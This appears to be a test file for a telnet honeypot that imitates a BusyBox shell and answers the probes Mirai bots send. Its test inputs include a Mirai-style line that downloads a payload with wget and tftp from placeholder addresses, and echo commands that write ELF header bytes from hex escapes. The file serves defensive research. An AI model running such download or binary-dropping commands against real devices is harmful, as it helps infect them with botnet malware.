import fc from "fast-check";
import { describe, expect, it } from "vitest";
import {
  echo,
  MAX_SHELL_DEPTH,
  MAX_SHELL_OUTPUT,
  runLine,
  type ShellState,
} from "./telnet-shell.js";

const out = (line: string, sh: ShellState = { depth: 0 }): string => runLine(line, sh).output;

describe("runLine", () => {
  it("answers Mirai's checks as a BusyBox login shell", () => {
    const sh = { depth: 0 };
    expect(out("enable", sh)).toBe("-sh: enable: not found\r\n");
    expect(out("sh", sh)).toBe("");
    expect(sh.depth).toBe(1);
    expect(out("/bin/busybox ECCHI", sh)).toBe("ECCHI: applet not found\r\n");
    expect(out("shell", sh)).toBe("sh: shell: not found\r\n");
    expect(out("busybox", sh)).toMatch(/^BusyBox v1\.19\.4 .*multi-call binary\.\r\n/);
  });

  it("follows && and ||, and hides output redirected to a file or piped on", () => {
    expect(out("cd /tmp || cd /var/run; false && echo no; false || echo yes")).toBe("yes\r\n");
    expect(out("/bin/busybox cat /proc/mounts | grep tmpfs")).toBe("");
    expect(out("echo hi > /tmp/.x; echo there")).toBe("there\r\n");
    expect(out("wget http://198.51.100.7/a 2>/dev/null; tftp -g 192.0.2.1")).toBe(
      "tftp: timeout\r\n",
    );
    expect(out("cat /nope")).toBe("cat: can't open '/nope': No such file or directory\r\n");
    expect(out("/bin/busybox cat /bin/echo").startsWith("\x7fELF\x01\x01\x01")).toBe(true);
  });

  it("exits the subshells first, then the login shell", () => {
    const sh = { depth: 0 };
    for (let i = 0; i < MAX_SHELL_DEPTH + 5; i++) runLine("sh", sh);
    expect(sh.depth).toBe(MAX_SHELL_DEPTH);
    expect(runLine("echo a; exit; echo b", { depth: 0 })).toEqual({ output: "a\r\n", exit: true });
    expect(runLine("exit", { depth: 1 })).toEqual({ output: "", exit: false });
  });

  it("stays bounded and never throws on any line", () => {
    fc.assert(
      fc.property(fc.string({ maxLength: 512 }), (line) => {
        const r = runLine(line, { depth: 0 });
        return r.output.length <= 2 * MAX_SHELL_OUTPUT;
      }),
      { numRuns: 500 },
    );
  });
});

describe("echo", () => {
  it("decodes -e escapes, honours -n and \\c, prints -E text as is", () => {
    expect(echo(["-e", "\\x41\\x4b\\x34\\x37"])).toBe("AK47\n");
    expect(echo(["-ne", "\\x7f\\x45\\x4c\\x46\\0101\\102"])).toBe("\x7fELFAB");
    expect(echo(["-e", "a\\tb\\cignored", "more"])).toBe("a\tb");
    expect(echo(["-E", "\\x41"])).toBe("\\x41\n");
    expect(echo(["\\x41", "-n"])).toBe("\\x41 -n\n");
    expect(echo(["-e", "\\q\\"])).toBe("\\q\\\n");
  });
});
